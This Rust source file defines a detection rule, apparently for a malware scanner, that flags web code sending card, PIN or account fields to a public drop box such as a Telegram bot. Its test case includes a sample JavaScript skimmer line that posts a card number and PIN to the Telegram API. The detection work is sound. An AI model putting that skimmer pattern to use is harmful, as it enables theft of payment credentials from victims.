//! `secret-words-to-drop-box`.

use crate::facts::Atom;
use crate::signals::{Signal, one, several};
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "secret-words-to-drop-box",
    description: "Fields go to a public drop box, in a message that names cards, accounts or codes.",
    severity: Severity::High,
    classes: ClassSet::MALWARE,
    needs: &[
        one(&[Atom::FieldToDropBox]),
        several(2, &[Atom::SecretField, Atom::SecretWord, Atom::CardField]),
    ],
    within: 400,
    only_if: None,
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            "var m='No-Kartu: '+f.kartu.value+' PIN: '+f.pin.value;fetch('https://api.telegram.org/bot0:T/sendMessage',{method:'POST',body:JSON.stringify({chat_id:1,text:m})})",
        ],
        without: &[
            "var m='Name: '+f.name.value+' Text: '+f.text.value;fetch('https://api.telegram.org/bot0:T/sendMessage',{method:'POST',body:JSON.stringify({chat_id:1,text:m})})",
        ],
    },
};
